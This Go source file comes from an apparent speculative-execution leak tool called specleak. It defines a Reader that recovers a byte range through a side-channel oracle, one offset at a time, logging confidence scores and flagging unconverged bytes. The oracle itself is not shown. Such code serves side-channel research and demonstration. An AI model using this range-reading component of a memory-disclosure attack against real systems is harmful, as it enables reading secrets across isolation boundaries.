package leak

import (
	"io"
	"strings"

	"github.com/sirupsen/logrus"

	"github.com/kolkov/specleak/internal/oracle"
)

// Byte is the recovery result for one offset.
type Byte struct {
	// Offset is relative to the oracle target's base.
	Offset uintptr

	oracle.Result
}

// Leaked is a recovered range in ascending offset order.
type Leaked []Byte

// Bytes returns the recovered values.
func (l Leaked) Bytes() []byte {
	out := make([]byte, len(l))
	for i, b := range l {
		out[i] = b.Value
	}
	return out
}

// String returns the recovered values as a string.
func (l Leaked) String() string {
	var sb strings.Builder
	sb.Grow(len(l))
	for _, b := range l {
		sb.WriteByte(b.Value)
	}
	return sb.String()
}

// LowConfidence returns the number of bytes chosen without convergence.
func (l Leaked) LowConfidence() int {
	n := 0
	for _, b := range l {
		if b.LowConfidence {
			n++
		}
	}
	return n
}

// Reader recovers byte ranges through an oracle.
type Reader struct {
	oracle *oracle.Oracle
	log    logrus.FieldLogger
}

// NewReader returns a Reader over o. A nil logger discards log output.
func NewReader(o *oracle.Oracle, log logrus.FieldLogger) *Reader {
	if log == nil {
		l := logrus.New()
		l.SetOutput(io.Discard)
		log = l
	}
	return &Reader{oracle: o, log: log}
}

// ReadRange recovers n bytes starting at offset start.
func (r *Reader) ReadRange(start uintptr, n int) Leaked {
	return r.ReadRangeFunc(start, n, nil)
}

// ReadRangeFunc is ReadRange with a callback invoked after each byte, in
// offset order, for callers that stream progress.
func (r *Reader) ReadRangeFunc(start uintptr, n int, fn func(Byte)) Leaked {
	if n <= 0 {
		return Leaked{}
	}

	out := make(Leaked, 0, n)
	for i := 0; i < n; i++ {
		off := start + uintptr(i)
		b := Byte{Offset: off, Result: r.oracle.LeakByte(off)}
		out = append(out, b)

		entry := r.log.WithFields(logrus.Fields{
			"offset":         off,
			"value":          b.Value,
			"score":          b.Score,
			"runner_up":      b.RunnerUp,
			"runner_score":   b.RunnerUpScore,
			"rounds":         b.Rounds,
			"low_confidence": b.LowConfidence,
		})
		if b.LowConfidence {
			// A secret byte equal to the public one is unrecoverable and
			// lands here; the field lets the reader spot that case.
			entry.WithField("public", r.oracle.Known()).Warn("byte recovered without convergence")
		} else {
			entry.Debug("byte recovered")
		}

		if fn != nil {
			fn(b)
		}
	}
	return out
}
